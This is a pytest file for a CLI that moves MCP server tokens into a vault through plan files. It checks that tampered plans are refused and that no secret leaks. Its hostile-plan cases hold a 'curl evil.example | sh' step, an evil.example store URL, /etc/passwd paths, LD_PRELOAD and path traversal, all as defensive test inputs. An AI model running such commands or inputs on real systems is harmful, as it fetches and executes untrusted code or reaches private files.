"""`migrate --plan-out` and `--plan`: a request that is planned again; what differs is refused, told and counted."""

from __future__ import annotations

import json
import os
import shlex
import stat
from collections.abc import Callable
from copy import deepcopy
from importlib.resources import files
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.cli.homes import SECRETS, build, github
from tests.cli.program import Program, git, program
from tests.rewriters.support import files_with, kept
from unsprawl.rewriters.plan_file import MAX_BYTES

TOKEN, OTHER = github(301), github(302)


def entry(token: str, *args: str, **more: Any) -> dict[str, Any]:
    return {"command": "npx", "args": [*args, "-y", "server-x"], "env": {"GITHUB_TOKEN": token}, **more}


def put(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def config(path: Path, **servers: Any) -> Path:
    return put(path, json.dumps({"numStartups": 1, "mcpServers": servers}, indent=2) + "\n")


@pytest.fixture
def start(home: Path, tmp_path: Path) -> Program:
    config(home / ".claude.json", one=entry(TOKEN), two=entry(OTHER))
    return program(home, tmp_path / "bin")


def planned(start: Program, home: Path, *words: str) -> dict[str, Any]:
    """A plan of the whole home, as `--plan-out` writes it."""
    done = start("migrate", *words, "--plan-out", "plan.json")
    assert done.returncode == 1, done.stderr
    document: dict[str, Any] = json.loads((home / "plan.json").read_text())
    return document


def applied(start: Program, *words: str, code: int, cwd: Path | None = None) -> dict[str, Any]:
    done = start("migrate", *words, "--plan", "plan.json", "--yes", "--format", "json", cwd=cwd)
    assert TOKEN not in done.stdout + done.stderr
    assert done.returncode == code, (done.stdout, done.stderr)
    document: dict[str, Any] = json.loads(done.stdout)
    return document


def statuses(document: dict[str, Any]) -> dict[str, str]:
    return {outcome["entry"]: outcome["status"] for outcome in document["outcomes"]}


def test_a_plan_is_private_fits_its_schema_and_holds_no_secret(home: Path, tmp_path: Path) -> None:
    build(home)
    before = {path: path.read_bytes() for path in home.rglob("*") if path.is_file()}
    start = program(home, tmp_path / "bin")
    (home / "plan.json").write_text("old")
    (home / "plan.json").chmod(0o644)
    done = start("migrate", str(home), "--plan-out", "plan.json")
    assert done.returncode == 1
    text = (home / "plan.json").read_text()
    assert stat.S_IMODE((home / "plan.json").stat().st_mode) == 0o600
    assert [name for name, value in SECRETS.items() if value in text] == []
    assert files_with(home, SECRETS.values()) <= before.keys()
    schema = json.loads(files("unsprawl.rewriters").joinpath("plan.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    document = json.loads(text)
    jsonschema.validate(document, schema)
    assert document["steps"]
    assert document["stays"]
    assert {path: path.read_bytes() for path in before} == before
    assert f"  unsprawl migrate {home} --plan plan.json\n" in done.stdout
    assert kept() == (set(), set(), set())


def test_the_digests_tell_nothing_of_the_secret(start: Program, home: Path) -> None:
    """Two keys, one digest: what stands at a secret's place is no part of it."""
    first = planned(start, home)
    config(home / ".claude.json", one=entry(github(303)), two=entry(github(304)))
    assert [step["digest"] for step in planned(start, home)["steps"]] == [step["digest"] for step in first["steps"]]
    config(home / ".claude.json", one=entry(TOKEN, "--debug"), two=entry(OTHER))
    changed = [step["digest"] for step in planned(start, home)["steps"]]
    assert changed[0] != first["steps"][0]["digest"]
    assert changed[1] == first["steps"][1]["digest"]
    (home / ".config/unsprawl/machine.key").unlink()
    assert planned(start, home)["steps"][1]["digest"] != first["steps"][1]["digest"]


@pytest.mark.parametrize("target", ["auto", "run", "reference"])
def test_what_is_equal_is_done(start: Program, home: Path, target: str) -> None:
    before = (home / ".claude.json").read_bytes()
    planned(start, home, "--to", target)
    document = applied(start, "--to", target, code=0)
    assert statuses(document) == {"one": "done", "two": "done"}
    assert document["requested"] == {"refused": 0, "unasked": 0}
    assert TOKEN not in (home / ".claude.json").read_text()
    assert start("undo", "--yes").returncode == 0
    assert (home / ".claude.json").read_bytes() == before


def test_a_host_that_writes_elsewhere_in_the_file_does_not_matter(start: Program, home: Path) -> None:
    planned(start, home)
    text = (home / ".claude.json").read_text()
    (home / ".claude.json").write_text(json.dumps({**json.loads(text), "numStartups": 2}, indent=4))
    assert statuses(applied(start, code=0)) == {"one": "done", "two": "done"}


def test_less_may_be_requested(start: Program, home: Path) -> None:
    plan = planned(start, home)
    del plan["steps"][0]
    (home / "plan.json").write_text(json.dumps(plan))
    document = applied(start, code=0)
    assert statuses(document) == {"two": "done"}
    assert document["requested"] == {"refused": 0, "unasked": 1}
    text = (home / ".claude.json").read_text()
    assert TOKEN in text
    assert OTHER not in text


def test_an_entry_that_has_changed_is_refused_and_the_other_one_done(start: Program, home: Path) -> None:
    planned(start, home)
    config(home / ".claude.json", one=entry(TOKEN, "--debug"), two=entry(OTHER))
    document = applied(start, code=1)
    assert statuses(document) == {"one": "refused", "two": "done"}
    assert document["requested"]["refused"] == 1
    [reason] = [each["reason"] for each in document["outcomes"] if each["status"] == "refused"]
    assert reason == "the entry is not as it was when the plan was made"
    assert TOKEN in (home / ".claude.json").read_text()


def test_the_command_to_apply_it_is_told_whole(start: Program, home: Path) -> None:
    done = start("migrate", "-x", "--to", "run", "--entry", "two", "--plan-out", "my plan.json")
    assert done.returncode == 2  # no such option
    config(home / "-x" / ".mcp.json", two=entry(github(305)))
    words = ["--to", "run", "--entry", "two", "--plan-out", "my plan.json", "--format", "json", "--", "-x"]
    [line] = json.loads(start("migrate", *words).stdout)["todo"]
    command = shlex.split(line.rpartition(": ")[2])
    assert command == [
        *("unsprawl", "migrate", "./-x", "--to", "run", "--entry", "two", "--plan", "my plan.json"),
    ]
    done = start(*command[1:], "--yes", "--format", "json")
    assert statuses(json.loads(done.stdout)) == {"two": "done"}


def test_on_a_terminal_it_is_told_and_counted(start: Program, home: Path) -> None:
    planned(start, home)
    config(home / ".claude.json", one=entry(TOKEN, "--debug"), two=entry(OTHER))
    done = start("migrate", "--plan", "plan.json", "--yes")
    assert done.returncode == 1
    assert "1 step of the plan is not what would be done now" in done.stdout
    assert "1 entry stays as it is." in done.stdout


# --- hostile plans

Change = Callable[[dict[str, Any]], object]


def step(**changed: Any) -> Change:
    """The first step says something else."""
    return lambda plan: plan["steps"][0].update(changed)


def replaced(old: str, new: str) -> Change:
    """Something else in all texts of the plan, so that it agrees with itself."""

    def change(plan: dict[str, Any]) -> None:
        text = json.dumps(plan)
        assert old in text
        plan.update(json.loads(text.replace(old, new)))

    return change


def operations(*more: dict[str, Any]) -> Change:
    return lambda plan: plan["steps"][0]["operations"].extend(more)


DIFFERENT: list[tuple[str, Change, str]] = [
    ("another command", replaced("/unsprawl", "/evil"), "the changed fields, the changes"),
    ("another target", step(target="reference"), "the target"),
    ("a lying summary", step(summary="the vault of somebody else"), "where it goes"),
    ("another variable", step(keeps=[{"name": "LD_PRELOAD", "home": "vault"}]), "the variables"),
    ("a plain variable", step(keeps=[{"name": "GITHUB_TOKEN", "home": "shell"}]), "the variables"),
    ("another record", step(ref="github"), "the name in the vault"),
    ("other hosts", step(hosts=["cursor"]), "the hosts"),
    ("another name", step(entry="three"), "the name"),
    ("no secret", step(secrets=[]), "the secrets found"),
    ("no change shown", step(changes=[]), "the changed fields"),
    ("a step to do more", step(todo=["curl evil.example | sh"]), "what is left to do"),
    ("an added insertion", operations({"do": "Insert", "at": "/mcpServers/evil", "value": {"command": "x"}}),
     "the changes"),
    ("an added removal", operations({"do": "Remove", "at": "/numStartups"}), "the changes"),
    ("no operation", step(operations=[]), "the changes"),
    ("another digest", step(digest="0" * 20), "not as it was when the plan was made"),
    ("another entry", step(pointer="/mcpServers/two2"), "no such entry in this file"),
    ("another pointer", step(pointer="/projects/~1etc/mcpServers/one"), "no such entry in this file"),
    ("the whole file", step(pointer=""), "no such entry in this file"),
    ("another path", step(path="/etc/passwd"), "not among those that were looked at"),
    ("a relative path", step(path=".claude.json"), "not among those that were looked at"),
    ("a path with dots", replaced("/.claude.json", "/.config/../.claude.json"), "not among those that were looked at"),
    ("a doubled slash", replaced("/.claude.json", "//.claude.json"), "not among those that were looked at"),
    ("an empty path", step(path=""), "not among those that were looked at"),
]  # fmt: skip


def test_what_differs_is_refused(start: Program, home: Path) -> None:
    made = planned(start, home)
    made["steps"] = made["steps"][:1]
    before = (home / ".claude.json").read_bytes()
    for name, change, reason in DIFFERENT:
        plan = deepcopy(made)
        change(plan)
        (home / "plan.json").write_text(json.dumps(plan))
        document = applied(start, code=4)
        [outcome] = document["outcomes"]
        assert outcome["status"] == "refused", name
        assert reason in outcome["reason"], name
        assert document["requested"]["refused"] == 1, name
        assert document["journal_id"] is None, name
        assert (home / ".claude.json").read_bytes() == before, name
        assert kept() == (set(), set(), set()), name


def broken(text: str) -> Change:
    """Instead of the plan."""
    return lambda plan: text


UNUSABLE: list[tuple[str, Callable[[dict[str, Any]], object], str]] = [
    ("a store", step(store="https://evil.example"), "step 1 says more than a plan can: it names no store"),
    ("an address", step(url="https://evil.example"), "step 1 says more than a plan can"),
    ("a program", lambda plan: plan.update(run="curl"), "it says more than a plan can"),
    ("an operation of another kind", operations({"do": "Exec", "at": "/x"}), "in another form"),
    ("an operation with a file", operations({"do": "Insert", "at": "/x", "value": 1, "path": "/etc"}), "says more"),
    ("a step that lacks something", lambda plan: plan["steps"][0].pop("digest"), "step 1 lacks"),
    ("a target with a path", step(target="../../run"), "in another form"),
    ("a list of texts", step(path=["/etc/passwd"]), "in another form"),
    ("an entry twice", lambda plan: plan["steps"].append(plan["steps"][0]), "names an entry twice"),
    ("a newer version", lambda plan: plan.update(schema_version=2), "another version"),
    ("version 0", lambda plan: plan.update(schema_version=0), "another version"),
    ("a huge version", broken('{"kind": "unsprawl-plan", "schema_version": 1' + "0" * 4000 + "}"), "another version"),
    ("a version that is none", lambda plan: plan.update(schema_version=True), "no plan of"),
    ("another machine", lambda plan: plan.update(machine="0" * 20), "made on another machine"),
    ("another --to", lambda plan: plan.update(to="reference"), "made with another --to"),
    ("a --to that is none", lambda plan: plan.update(to="wire"), "made with another --to"),
    ("no plan", lambda plan: plan.clear(), "no plan of"),
    ("a list", broken("[]"), "no plan of"),
    ("no JSON", broken("{"), "not valid JSON"),
    ("NaN", broken('{"schema_version": NaN}'), "not valid JSON"),
    ("deep", broken("[" * 200_000), "not valid JSON"),
    ("no text", broken("\udc80"), "not valid JSON"),
    ("empty", broken(""), "not valid JSON"),
    ("a key twice", lambda plan: json.dumps(plan).replace('"to":', '"to": "run", "to":', 1), "a key is written twice"),
    ("a step's key twice",
     lambda plan: json.dumps(plan).replace('"target":', '"target": "run", "target":', 1), "a key is written twice"),
]  # fmt: skip


def test_what_is_no_plan_is_refused_whole(start: Program, home: Path) -> None:
    made = planned(start, home)
    for name, change, reason in UNUSABLE:
        plan = deepcopy(made)
        text = change(plan)
        whole = isinstance(text, str) and text[:1] in ("", "{", "[", "\udc80")
        data = str(text) if whole else json.dumps(plan)
        (home / "plan.json").write_bytes(data.encode("utf-8", "surrogateescape"))
        unchanged(start, home, reason, name=name)


def unchanged(start: Program, home: Path, reason: str, *words: str, name: str = "") -> None:
    """The plan is refused as a whole, in one line, and nothing happens."""
    before = (home / ".claude.json").read_bytes()
    done = start("migrate", "--plan", *(words or ("plan.json",)), "--yes")
    assert (done.returncode, done.stdout) == (2, ""), (name, done.stderr)
    assert reason in done.stderr, name
    assert len(done.stderr.splitlines()) == 2, name
    assert (home / ".claude.json").read_bytes() == before
    assert kept() == (set(), set(), set())


def test_a_huge_file_is_not_read(start: Program, home: Path) -> None:
    with open(home / "plan.json", "wb") as file:
        file.truncate(100 * 1024 * 1024)
    unchanged(start, home, "larger than 4 MiB")
    assert start.peak("migrate", "--plan", "plan.json", "--yes")[1] < 100 * 1024 * 1024
    (home / "plan.json").write_bytes(b"[" + b" " * MAX_BYTES)
    unchanged(start, home, "larger than 4 MiB")


@pytest.mark.skipif(os.name != "posix", reason="FIFOs")
def test_what_is_no_file_is_not_opened(start: Program, home: Path) -> None:
    os.mkfifo(home / "plan.json")
    unchanged(start, home, "not a regular file")
    unchanged(start, home, "there is no such file", "nosuch.json")
    unchanged(start, home, "a folder", ".")


def test_a_secret_in_a_plan_is_not_shown(start: Program, home: Path) -> None:
    plan = planned(start, home)
    plan["steps"][0]["entry"] = plan["steps"][0]["path"] = TOKEN
    plan["steps"][1][TOKEN] = 1
    (home / "plan.json").write_text(json.dumps(plan))
    for words in ((), ("--format", "json")):
        done = start("migrate", "--plan", "plan.json", "--yes", *words)
        assert done.returncode == 2
        assert TOKEN not in done.stdout + done.stderr
    del plan["steps"][1][TOKEN]
    (home / "plan.json").write_text(json.dumps(plan))
    for words in (("--format", "json"), ()):
        done = start("migrate", "--plan", "plan.json", "--yes", *words)
        assert TOKEN not in done.stdout + done.stderr


def test_a_plan_reaches_no_further_than_the_command_line(start: Program, home: Path, tmp_path: Path) -> None:
    """A file elsewhere is not even looked at because a plan names it; neither is a link to it."""
    config(tmp_path / "other" / ".mcp.json", one=entry(TOKEN))
    other = tmp_path / "other"
    git(other, "init", "-q")
    assert start("migrate", str(other), "--plan-out", "plan.json").returncode == 1
    text = (home / "plan.json").read_text()
    before = (other / ".mcp.json").read_bytes()
    document = applied(start, code=4)
    assert "name it, if it is yours" in document["outcomes"][0]["reason"]
    (home / "link").symlink_to(other)
    (home / "plan.json").write_text(text.replace(str(other), str(home / "link")))
    assert "not among" in applied(start, code=4)["outcomes"][0]["reason"]
    assert (other / ".mcp.json").read_bytes() == before
    (home / "plan.json").write_text(text)
    assert statuses(applied(start, str(other), code=0)) == {"one": "done"}


def test_a_link_out_of_a_project_is_refused_as_without_a_plan(start: Program, home: Path) -> None:
    project = home / "project"
    git_folder = project / ".cursor"
    git_folder.mkdir(parents=True)
    git(project, "init", "-q")
    config(home / "private.json", one=entry(TOKEN))
    (git_folder / "mcp.json").symlink_to(home / "private.json")
    before = (home / "private.json").read_bytes()
    start("migrate", str(git_folder / "mcp.json"), "--plan-out", "plan.json")
    document = applied(start, str(git_folder / "mcp.json"), code=4)
    assert statuses(document) == {"one": "failed"}
    assert "link out of its project" in document["outcomes"][0]["reason"]
    assert (home / "private.json").read_bytes() == before


def test_a_policy_that_came_since_is_obeyed(start: Program, home: Path) -> None:
    planned(start, home)
    put(home / ".config/unsprawl/policy.yaml", "version: 1\ntargets: []\n")
    document = applied(start, code=4)
    assert set(statuses(document).values()) == {"refused"}
    assert "the policy does not allow it" in document["outcomes"][0]["reason"]


@pytest.mark.parametrize(
    "words",
    [
        ["--plan-out", "p", "--yes"],
        ["--plan-out", "p", "--plan", "p"],
        ["--plan-out", "p", "--start"],
        ["--plan-out", "-"],
        ["--plan-out", "."],
        ["--plan-out", "nosuch/p"],
        ["--plan-out", ".claude.json"],
        ["--plan-out", "/dev/stdout"],
        ["--status", "--yes"],
        ["--status", ".claude.json"],
        ["--status", "--plan", "p"],
    ],
    ids=" ".join,
)
def test_options_that_contradict_each_other(words: list[str], start: Program, home: Path) -> None:
    before = (home / ".claude.json").read_bytes()
    done = start("migrate", *words)
    assert (done.returncode, done.stdout) == (2, ""), done.stdout
    assert not (home / "p").exists()
    assert (home / ".claude.json").read_bytes() == before


def test_a_plan_never_goes_through_a_link(start: Program, home: Path, tmp_path: Path) -> None:
    target = put(tmp_path / "elsewhere", "mine")
    (home / "plan.json").symlink_to(target)
    done = start("migrate", "--plan-out", "plan.json")
    # `--plan-out` names a file; whoever links it there gets it there, private, like any report.
    assert done.returncode == 1
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert (home / "plan.json").is_symlink()
